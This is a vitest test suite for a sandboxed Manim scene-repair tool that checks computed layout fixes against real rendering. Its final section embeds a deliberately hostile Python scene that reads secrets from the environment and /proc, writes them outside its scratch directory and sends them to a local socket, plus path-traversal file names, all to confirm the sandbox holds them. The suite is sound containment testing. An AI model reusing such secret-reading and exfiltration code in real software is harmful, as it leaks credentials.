import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig, PROJECT_ROOT } from '../../src/config';
import type { SceneSource } from '../../src/fragments/scene-sources';
import type { FrameManifest } from '../../src/media/manifest';
import { sceneFindings } from '../../src/scene/findings';
import { timelineOf, type SceneTimeline } from '../../src/scene/inspection';
import { runInspector } from '../../src/scene/inspector';
import { repairNote } from '../../activities/repair';
import type { Severity } from '../../src/domain/types';
import { repairBudget, repairScene, type SceneRepair } from '../../src/scene/repair';
import { TARGET_CATEGORIES } from '../../src/scene/repair/rules';
import { RepairSession } from '../../src/scene/repair/session';
import { sceneResults } from '../../testkit/scene-corpus';

/**
 * Scene repair on real Manim in the real sandbox: each scene of
 * testkit/repair-scenes.py has one layout defect; its repair must verify an
 * edit, and the patched sources must inspect clean outside the repair's own
 * session. One repair per scene (each is a warm session of its own).
 */

const SCENES = path.join(PROJECT_ROOT, 'testkit', 'repair-scenes.py');
const sources: SceneSource[] = [{ name: 'repair_scenes.py', content: fs.readFileSync(SCENES, 'utf8') }];
const config = loadConfig({ EVALS_SCENE_TIMEOUT_SECONDS: '60', EVALS_SCENE_CPU_SECONDS: '30', EVALS_SCENE_MEMORY_MB: '1536' });
const VIDEO = { width: 854, height: 480, fps: 15 };
const DEFECTS = {
  LabelOffRight: 'clipped_content',
  OverlappingFormulas: 'overlap',
  TinyText: 'unreadable_text',
  DarkOnDark: 'low_contrast',
  Leftover: 'clutter',
  // Added, and never shown inside the frame: the commonest way a generated label goes missing.
  TextOffTheEdge: 'off_screen',
} as const;
/** The kind of edit each defect's computed fix is (the amounts come from the geometry). */
const EDITS: Record<keyof typeof DEFECTS, RegExp> = {
  LabelOffRight: /→ `label = .*\.next_to\(circle, RIGHT, buff=4\.5\)\.shift\(\d\.\d\d \* LEFT\)`$/,
  OverlappingFormulas: /→ `second = .*\.next_to\(first, DOWN, buff=0\.\d\d\)`$/,
  TinyText: /→ `note = Text\("read me if you can", font_size=\d\d\)`$/,
  DarkOnDark: /→ `title = Text\("Dark on dark", font_size=48, color='#[0-9A-F]{6}'\)`$/,
  Leftover: /→ `self\.play\(FadeOut\(square\), FadeOut\(caption\), run_time=1\)`$/,
  TextOffTheEdge: /→ `label = Text\("Off the edge"\)\.shift\(10 \* RIGHT\)\.shift\(\d(\.\d\d?)? \* LEFT\)`$/,
};

/** The frames a pipeline would have stored: every half second. */
const manifestOf = (t: SceneTimeline): FrameManifest => ({
  durationMs: t.durationMs,
  ...VIDEO,
  frames: [...Array(Math.floor(t.durationMs / 500) + 1).keys()].map((k) => ({ index: k, timestampMs: k * 500, ...VIDEO, key: `f${k}` })),
});

async function inspect(files: readonly SceneSource[], scenes: readonly string[]): Promise<Map<string, SceneTimeline>> {
  const ran = await runInspector(
    files,
    scenes.map((scene) => ({ ...VIDEO, scene, durationMs: 0 })),
    { ...config.scene, limits: { ...config.scene.limits, wallMs: 300_000, cpuSeconds: 300 } },
  );
  if (!('answer' in ran)) throw new Error(`the inspector did not run: ${'refused' in ran ? ran.refused : ran.failure}`);
  return new Map(
    scenes.map((scene, i) => {
      const timeline = timelineOf(ran.answer.results[i], ran.answer.manim ?? null, {});
      if (!timeline) throw new Error(`${scene}: ${ran.answer.results[i]?.error}`);
      return [scene, timeline];
    }),
  );
}

/**
 * These scenes are inspected together, so no one inspection's cost is known: the budget of an inspection whose time
 * was not recorded (the most a repair takes). The budget's own test inspects its scene alone, as the pipeline does.
 */
const UNRECORDED = { wallMs: null, cpuSeconds: null };

const repair = (files: readonly SceneSource[], timeline: SceneTimeline) =>
  repairScene({
    sources: files,
    scene: timeline.scene,
    timeline,
    manifest: manifestOf(timeline),
    video: { ...VIDEO, durationMs: timeline.durationMs },
    settings: config.scene,
    inspection: UNRECORDED,
  });

/** What a repair cost, printed (never asserted): the warm CPU per re-inspection and the repair's wall time. */
function report(name: string, r: SceneRepair): void {
  const warm = ((r.cpuSeconds ?? 0) - (r.importCpuSeconds ?? 0)) / Math.max(1, r.candidates);
  console.log(
    `[scene-repair] ${name}: ${r.candidates} candidate(s), CPU warm ${warm.toFixed(2)} s each, Manim import ${r.importCpuSeconds?.toFixed(2)} s, wall ${(r.wallMs / 1000).toFixed(1)} s (budget ${(r.budget.wallMs / 1000).toFixed(0)} s, ${r.budget.candidates} candidates)`,
  );
}

let timelines: Map<string, SceneTimeline>;
const repairs = new Map<string, SceneRepair>();

beforeAll(async () => {
  timelines = await inspect(sources, [
    ...Object.keys(DEFECTS),
    'Crowded',
    'CrowdedOverlapping',
    'ScatteredByHand',
    'CrowdedBand',
    'NoRoomToTheLeft',
    'FlashedFormula',
  ]);
}, 600_000);

describe('scene repair (real Manim, real sandbox)', () => {
  for (const [scene, category] of Object.entries(DEFECTS)) {
    it(`${scene}: its ${category} finding gets a verified edit that touches only the fragment's file`, async () => {
      const timeline = timelines.get(scene)!;
      const before = [...sceneFindings(timeline, manifestOf(timeline)).values()].flat();
      expect(before.map((i) => i.category)).toContain(category);
      const r = await repair(sources, timeline);
      report(scene, r);
      repairs.set(scene, r);
      const fix = r.fixes.find((f) => f.finding.category === category)!;
      expect(fix.verdict, fix.reinspection).toBe('verified');
      expect(fix.change).toMatch(/^line \d+: `.+` → `.+`$/);
      expect(fix.change).toMatch(EDITS[scene as keyof typeof DEFECTS]);
      expect(fix.suggestedFix).toBe(`${fix.change}; verified: ${fix.reinspection}`);
      expect(fix.reinspection).toMatch(/^re-inspected, .+ from \d\d:\d\d\.\d on, no new finding, the timeline keeps its length/);
      expect(Object.keys(fix.diff)).toEqual(['repair_scenes.py']);
      expect(fix.diff['repair_scenes.py']).toMatch(/^--- a\/repair_scenes\.py\n\+\+\+ b\/repair_scenes\.py\n@@ /);
      expect(r.combined.verdict).toBe('verified');
      expect(Object.keys(r.combined.files)).toEqual(['repair_scenes.py']);
      // The patch keeps every line where it was: only lines change, none come or go.
      expect(r.combined.files['repair_scenes.py'].split('\n').length).toBe(sources[0].content.split('\n').length);
    }, 300_000);
  }

  it('the patched sources, all together, inspect clean outside the repair (one fresh inspector run)', async () => {
    expect([...repairs.keys()]).toEqual(Object.keys(DEFECTS));
    // Each scene's patch changes its own lines only, and keeps every line's number: merged line by line.
    const original = sources[0].content.split('\n');
    const merged = original.map((line, n) => {
      const changed = [...repairs.values()].map((r) => r.combined.files['repair_scenes.py'].split('\n')[n]).find((l) => l !== line);
      return changed ?? line;
    });
    const after = await inspect([{ name: 'repair_scenes.py', content: merged.join('\n') }], Object.keys(DEFECTS));
    for (const [scene, category] of Object.entries(DEFECTS)) {
      const t = after.get(scene)!;
      expect(Math.abs(t.durationMs - timelines.get(scene)!.durationMs)).toBeLessThanOrEqual(1000 / VIDEO.fps);
      const issues = [...sceneFindings(t, manifestOf(t)).values()].flat();
      expect(
        issues.filter((i) => i.category === category).map((i) => i.description),
        scene,
      ).toEqual([]);
      expect(
        issues.filter((i) => i.severity !== 'LOW').map((i) => i.description),
        scene,
      ).toEqual([]);
    }
  }, 600_000);

  it('a formula too brief to read is held by a verified wait: the timeline grows by exactly that, and nothing else changes', async () => {
    const timeline = timelines.get('FlashedFormula')!;
    const brief = [...sceneFindings(timeline, manifestOf(timeline)).values()].flat().filter((i) => i.category === 'pacing');
    expect(brief.map((i) => i.severity)).toEqual(['MEDIUM']);
    const r = await repair(sources, timeline);
    report('FlashedFormula', r);
    const fix = r.fixes.find((f) => f.finding.category === 'pacing')!;
    expect(fix.verdict, fix.reinspection).toBe('verified');
    const waited = /^line (\d+): `self\.wait\(0\.3\)` → `self\.wait\((\d+\.\d+)\)`$/.exec(fix.change ?? '');
    expect(waited, fix.change ?? '').not.toBeNull();
    const added = Number(waited![2]) - 0.3;
    expect(fix.reinspection).toMatch(
      new RegExp(
        `no new finding, the timeline grows by exactly what the edit adds \\(${added.toFixed(2)} s, to ${((timeline.durationMs + added * 1000) / 1000).toFixed(2)} s\\)$`,
      ),
    );
    const after = await inspect([{ name: 'repair_scenes.py', content: r.combined.files['repair_scenes.py'] }], ['FlashedFormula']);
    const t = after.get('FlashedFormula')!;
    expect(Math.abs(t.durationMs - (timeline.durationMs + added * 1000))).toBeLessThanOrEqual(1000 / VIDEO.fps);
    expect([...sceneFindings(t, manifestOf(t)).values()].flat().filter((i) => i.severity !== 'LOW')).toEqual([]);
  }, 300_000);

  it('an edit that would add a finding is not verified: the fix says so, why, and keeps the advice', async () => {
    // The label is cut on the right, and every shift that brings it inside lands it on the caption to its left.
    const r = await repair(sources, timelines.get('NoRoomToTheLeft')!);
    report('NoRoomToTheLeft', r);
    const fix = r.fixes.find((f) => f.finding.category === 'clipped_content')!;
    expect(fix.verdict).toBe('unverified');
    expect(fix.candidatesTried).toBeGreaterThan(0);
    expect(fix.change).toBeNull();
    expect(fix.reinspection).toMatch(
      /candidate edits? re-inspected, none verified: shift\(.+ \* LEFT\) at line \d+: a new MEDIUM finding: Text "A caption that fills the left"/,
    );
    expect(fix.suggestedFix.startsWith(`${fix.finding.suggestedFix} (no verified fix: `)).toBe(true);
    expect(r.combined).toMatchObject({ verdict: 'none', files: {}, diff: {} });
  }, 300_000);

  it('a cancelled repair stops its sandbox and rejects, rather than calling the candidate unverified', async () => {
    const timeline = timelines.get('TinyText')!;
    const controller = new AbortController();
    const pending = repairScene({
      sources,
      scene: timeline.scene,
      timeline,
      manifest: manifestOf(timeline),
      video: { ...VIDEO, durationMs: timeline.durationMs },
      settings: config.scene,
      inspection: UNRECORDED,
      cancel: controller.signal,
      heartbeat: (progress) => {
        if (progress.startsWith('defect ')) controller.abort(new Error('cancelled by the test'));
      },
    });
    await expect(pending).rejects.toThrow('cancelled by the test');
  }, 300_000);

  it('a finding no edit can fix says so and keeps its advice: texts too many at once, but no one group of them to arrange', async () => {
    const r = await repair(sources, timelines.get('ScatteredByHand')!);
    const fix = r.fixes.find((f) => f.finding.category === 'clutter')!;
    expect(fix.verdict).toBe('none');
    expect(fix.change).toBeNull();
    expect(fix.diff).toEqual({});
    expect(fix.reinspection).toMatch(/no edit is computed for this finding/);
    expect(fix.suggestedFix.startsWith(fix.finding.suggestedFix)).toBe(true);
    expect(fix.suggestedFix).toMatch(/no verified fix: /);
    expect(r.combined).toMatchObject({ verdict: 'none', files: {}, diff: {} });
  }, 300_000);
});

describe('too many texts at once, repaired (real Manim)', () => {
  /** The clutter fix, and the patched scene inspected afresh outside the repair: nothing crowded, drawn over or new. */
  async function arranged(scene: string) {
    const r = await repair(sources, timelines.get(scene)!);
    report(scene, r);
    const fix = r.fixes.find((f) => f.finding.category === 'clutter')!;
    expect(fix.verdict, fix.reinspection).toBe('verified');
    expect(fix.change).toMatch(
      /→ `words\.arrange_in_grid\(rows=\d+, cols=\d+, buff=0\.25\)(\.scale\(0\.\d+\))?\.move_to\(.+\); self\.(play|wait)\(/,
    );
    expect(r.combined.verdict).toBe('verified');
    const t = (await inspect([{ name: 'repair_scenes.py', content: r.combined.files['repair_scenes.py'] }], [scene])).get(scene)!;
    expect(Math.abs(t.durationMs - timelines.get(scene)!.durationMs)).toBeLessThanOrEqual(1000 / VIDEO.fps);
    const after = [...sceneFindings(t, manifestOf(t)).values()].flat();
    expect(after.filter((i) => ['clutter', 'overlap'].includes(i.category) || i.severity !== 'LOW').map((i) => i.description)).toEqual([]);
    return { r, fix };
  }

  it("a crowd of words scattered by hand is arranged in a grid, scaled to fit with Manim's buff, just before it is shown", async () => {
    await arranged('Crowded');
  }, 300_000);

  it('one arrangement clears the crowd and the overlaps it caused: re-inspected once for both defects', async () => {
    const { r, fix } = await arranged('CrowdedOverlapping');
    expect(fix.reinspection).toMatch(/and the \d+ overlaps among them are gone/);
    const overlap = r.fixes.find((f) => f.finding.category === 'overlap')!;
    expect(overlap.verdict, overlap.reinspection).toBe('verified');
    expect(overlap.change).toBe(fix.change);
    expect(r.candidates).toBe(1);
  }, 300_000);

  it('a crowd with no room to arrange it, shown by one play, is shown in steps: the first half held to be read, then faded out', async () => {
    const timeline = timelines.get('CrowdedBand')!;
    const r = await repair(sources, timeline);
    report('CrowdedBand', r);
    const fix = r.fixes.find((f) => f.finding.category === 'clutter')!;
    expect(fix.verdict, fix.reinspection).toBe('verified');
    const steps =
      /→ `self\.play\(FadeIn\(words\[:len\(words\) \/\/ 2\]\)\); self\.wait\((\d+(?:\.\d)?)\); self\.play\(FadeOut\(words\[:len\(words\) \/\/ 2\]\)\); words\.remove\(\*words\[:len\(words\) \/\/ 2\]\); self\.play\(FadeIn\(words\), run_time=1\)`$/;
    expect(fix.change).toMatch(steps);
    // Manim's FadeIn and FadeOut take a second each: the timeline grows by them and the hold, nothing else.
    const grows = 2 + Number(steps.exec(fix.change!)![1]);
    const t = (await inspect([{ name: 'repair_scenes.py', content: r.combined.files['repair_scenes.py'] }], ['CrowdedBand'])).get(
      'CrowdedBand',
    )!;
    expect(Math.abs(t.durationMs - timeline.durationMs - grows * 1000)).toBeLessThanOrEqual(1000 / VIDEO.fps);
    const after = [...sceneFindings(t, manifestOf(t)).values()].flat();
    expect(after.filter((i) => i.severity !== 'LOW').map((i) => i.description)).toEqual([]);
  }, 300_000);
});

describe('repair within a budget taken from the inspection (real Manim)', () => {
  it('two hundred overlapping labels: one fix per stored issue, the worst tried first, stopped at the budget with its note', async () => {
    // Inspected alone, as the pipeline inspects a fragment: what that cost is the repair's budget.
    // Given room to finish on a loaded machine: the budget is what it took, whatever that was.
    const limits = { ...config.scene.limits, wallMs: 300_000, cpuSeconds: 300 };
    const ran = await runInspector(sources, [{ ...VIDEO, scene: 'TwoHundredLabels', durationMs: 0 }], { ...config.scene, limits });
    if (!('answer' in ran)) throw new Error(`the inspector did not run: ${JSON.stringify(ran)}`);
    const [result] = ran.answer.results;
    const timeline = timelineOf(result, ran.answer.manim ?? null, {})!;
    const inspection = { wallMs: ran.wallMs, cpuSeconds: (result.cpuSeconds ?? 0) + (ran.answer.importCpuSeconds ?? 0) };
    const issues = [...sceneResults(timeline, manifestOf(timeline)).values()]
      .flatMap((v) => v.issues)
      .filter((i) => TARGET_CATEGORIES.has(i.category));
    const pairs = [...sceneFindings(timeline, manifestOf(timeline)).values()].flat().filter((d) => d.category === 'overlap');
    expect(pairs.length).toBeGreaterThan(100);
    expect(issues.filter((i) => i.category === 'overlap').length).toBeGreaterThan(1);
    const r = await repairScene({
      sources,
      scene: timeline.scene,
      timeline,
      manifest: manifestOf(timeline),
      video: { ...VIDEO, durationMs: timeline.durationMs },
      settings: config.scene,
      inspection,
    });
    report('TwoHundredLabels', r);
    // One repair per defect, as the run's issues name them: hundreds of overlapping pairs are a handful of issues.
    expect(r.fixes.map((f) => [f.finding.category, f.finding.description]).sort()).toEqual(
      issues.map((i) => [i.category, i.description]).sort(),
    );
    expect(r.budget).toEqual({ ...repairBudget(inspection), reached: true });
    expect(r.candidates).toBeLessThanOrEqual(r.budget.candidates);
    // The budget's own limit, enforced (the sandbox is stopped at its end): a bound with room to close, not a speed figure.
    expect(r.wallMs).toBeLessThanOrEqual(r.budget.wallMs + 5_000);
    const short = r.fixes.filter((f) => f.reinspection.includes("the repair's budget was reached"));
    expect(short.length).toBeGreaterThan(0);
    for (const f of short) {
      expect(f.verdict).toBe('unverified');
      expect(f.suggestedFix.startsWith(`${f.finding.suggestedFix} (no verified fix: `)).toBe(true);
    }
    expect(repairNote({ ...r, fixes: r.fixes.map((f) => ({ ...f, issueId: null })) })).toMatch(
      /The repair's budget \(\d+ candidates, \d+ s\) was reached: the rest keep their advice\.$/,
    );
    // The worst first: no defect left untried is more severe than one that was tried.
    const rank: Record<Severity, number> = { LOW: 0, MEDIUM: 1, HIGH: 2 };
    const tried = r.fixes.filter((f) => f.candidatesTried > 0).map((f) => rank[f.finding.severity]);
    const untried = r.fixes.filter((f) => f.candidatesTried === 0 && f.verdict !== 'none').map((f) => rank[f.finding.severity]);
    expect(tried.length).toBeGreaterThan(0);
    expect(Math.max(-1, ...untried)).toBeLessThanOrEqual(Math.min(...tried));
  }, 300_000);
});

describe('sources the patcher reads as Python does (real Manim)', () => {
  const label = fs.readFileSync(SCENES, 'utf8').match(/class LabelOffRight\(Scene\):\n(?: {4}.*\n|\n)*?(?=\n\nclass )/)![0];
  // Characters str.splitlines breaks lines at and Python's tokenizer does not, in a comment and a docstring.
  const separators = '\u2028 \u2029 \u0085 \u000c \u000b';
  const variants: [string, string][] = [
    ['a UTF-8 byte order mark', `\ufefffrom manim import *\n\n\n${label}`],
    [
      'U+2028, U+2029, U+0085, form feed and vertical tab',
      `"""Separators:${separators}."""\nfrom manim import *\n\n# ${separators} end\n\n\n${label}`,
    ],
    ['CRLF line ends', `from manim import *\r\n\r\n\r\n${label.replaceAll('\n', '\r\n')}`],
  ];
  it.each(variants)(
    '%s: the fix verifies, and the patched file is the original but for the changed line',
    async (_what, content) => {
      const files = [{ name: 'odd_source.py', content }];
      const timeline = (await inspect(files, ['LabelOffRight'])).get('LabelOffRight')!;
      const r = await repair(files, timeline);
      const fix = r.fixes.find((f) => f.finding.category === 'clipped_content')!;
      expect(fix.verdict, fix.reinspection).toBe('verified');
      const patched = r.combined.files['odd_source.py'];
      const lines = (text: string) => text.split(/(?<=\r\n|\r(?!\n)|\n)/);
      const [before, after] = [lines(content), lines(patched)];
      expect(after.length).toBe(before.length);
      const changed = before.map((line, n) => (line === after[n] ? null : n)).filter((n) => n !== null);
      expect(changed.map((n) => before[n])).toEqual([expect.stringContaining('label = Text("Similar triangles"')]);
      expect(after[changed[0]]).toMatch(/\.shift\(\d\.\d\d \* LEFT\)(\r\n|\n)$/);
      expect(patched.startsWith('\ufeff')).toBe(content.startsWith('\ufeff'));
    },
    300_000,
  );
});

describe('a scene that looks for traces of an earlier run (real sandbox)', () => {
  // The caption is there on a first run only: a candidate that saw the baseline's marker would be verified against a scene
  // without it. Every candidate must see what the first inspection saw: a fresh /tmp, home and /dev/shm.
  const detector: SceneSource[] = [
    {
      name: 'rerun_scene.py',
      content: [
        'from manim import *',
        'import os',
        '',
        '',
        'class RerunDetector(Scene):',
        '    def construct(self):',
        '        places = ("/tmp/evals-seen", os.path.expanduser("~/evals-home-seen"), "/dev/shm/evals-seen", "/dev/evals-seen")',
        '        seen = any(os.path.exists(place) for place in places)',
        '        for place in places:',
        '            try:',
        '                open(place, "w").close()',
        '            except OSError:',
        '                pass',
        '        caption = Text("A caption that fills the left", font_size=56).to_edge(LEFT, buff=0.1)',
        '        label = Text("cut off here", font_size=56).next_to(caption, RIGHT, buff=0.2)',
        '        if seen:',
        '            caption.set_opacity(0)',
        '        self.play(FadeIn(caption), FadeIn(label), run_time=1)',
        '        self.wait(1)',
        '',
      ].join('\n'),
    },
  ];

  it('every candidate runs as the first inspection did: the shift that lands on the caption is not verified', async () => {
    const timeline = (await inspect(detector, ['RerunDetector'])).get('RerunDetector')!;
    const r = await repair(detector, timeline);
    report('RerunDetector', r);
    const fix = r.fixes.find((f) => f.finding.category === 'clipped_content')!;
    expect(fix.candidatesTried).toBeGreaterThan(0);
    expect(fix.verdict, fix.reinspection).toBe('unverified');
    expect(fix.reinspection).toMatch(/a new MEDIUM finding: Text "A caption that fills the left"/);
  }, 300_000);
});

describe('a hostile scene during repair (real sandbox)', () => {
  const SECRET = `scene-repair-secret-${process.pid}-${Date.now()}`;
  const outside = fs.mkdtempSync(path.join(os.tmpdir(), 'evals-repair-escape-'));
  let listener: net.Server;
  let connections = 0;
  let port = 0;
  beforeAll(async () => {
    process.env.EVALS_TEST_REPAIR_SECRET = SECRET;
    listener = net.createServer((socket) => {
      connections++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    port = (listener.address() as net.AddressInfo).port;
  });
  afterAll(() => {
    listener?.close();
    fs.rmSync(outside, { recursive: true, force: true });
    delete process.env.EVALS_TEST_REPAIR_SECRET;
  });

  // A tiny text made by a helper in a second file, whose every run (the baseline and each candidate) tries to get out.
  const hostile = (): SceneSource[] => [
    {
      name: 'hostile_scene.py',
      content: [
        'from manim import *',
        'import os, socket',
        'from helpers import make_note',
        '',
        'class Hostile(Scene):',
        '    def construct(self):',
        '        found = os.environ.get("EVALS_TEST_REPAIR_SECRET", "")',
        '        for name in ("/proc/1/environ", "/proc/self/environ"):',
        '            try:',
        '                found += open(name, "rb").read().decode("utf-8", "replace")',
        '            except OSError:',
        '                pass',
        '        for target in (' +
          JSON.stringify(path.join(outside, 'escaped.txt')) +
          ', ' +
          JSON.stringify(path.join(PROJECT_ROOT, 'escaped.txt')) +
          '):',
        '            try:',
        '                open(target, "w").write(found)',
        '            except OSError:',
        '                pass',
        '        try:',
        `            socket.create_connection(("127.0.0.1", ${port}), timeout=1).sendall(found.encode())`,
        '        except OSError:',
        '            pass',
        '        note = make_note("secret: " + ("leaked " + found[-60:] if "scene-repair-secret" in found else "none"))',
        '        self.play(FadeIn(note), run_time=1)',
        '        self.wait(1)',
        '',
      ].join('\n'),
    },
    { name: 'helpers.py', content: 'from manim import *\n\n\ndef make_note(text):\n    return Text(text, font_size=10)\n' },
  ];

  it("stays contained: no connection, nothing written outside its scratch, no secret read; the fix still verifies, in the fragment's files only", async () => {
    const files = hostile();
    const timeline = (await inspect(files, ['Hostile'])).get('Hostile')!;
    const r = await repair(files, timeline);
    report('Hostile', r);
    expect(connections).toBe(0);
    expect(fs.readdirSync(outside)).toEqual([]);
    expect(fs.existsSync(path.join(PROJECT_ROOT, 'escaped.txt'))).toBe(false);
    expect(JSON.stringify(r)).not.toContain(SECRET);
    const fix = r.fixes.find((f) => f.finding.category === 'unreadable_text')!;
    expect(fix.verdict, fix.reinspection).toBe('verified');
    expect(fix.finding.description).toContain('secret: none');
    // The text is made in the helper: the patch changes helpers.py, and nothing but the fragment's files.
    expect(Object.keys(fix.diff)).toEqual(['helpers.py']);
    expect(Object.keys(r.combined.files).every((name) => files.some((s) => s.name === name))).toBe(true);
  }, 600_000);

  it("an edit naming any file but the fragment's own is refused before anything runs", async () => {
    const files = hostile();
    const session = await RepairSession.open(files, 'Hostile', { ...VIDEO, durationMs: 2000, drawnByChance: false }, config.scene, 60_000);
    if ('failure' in session) throw new Error(session.failure);
    try {
      for (const file of ['../hostile_scene.py', '/etc/hostname', 'other.py', path.join(outside, 'x.py')]) {
        const run = await session.inspect([{ file, line: 5, op: { kind: 'keyword', call: 'Text', keyword: 'font_size', value: '30' } }]);
        expect(run).toEqual({ status: 'invalid', reason: `'${file}' is not one of the scene's source files` });
      }
    } finally {
      await session.close();
    }
    expect(fs.readdirSync(outside)).toEqual([]);
  }, 300_000);
});
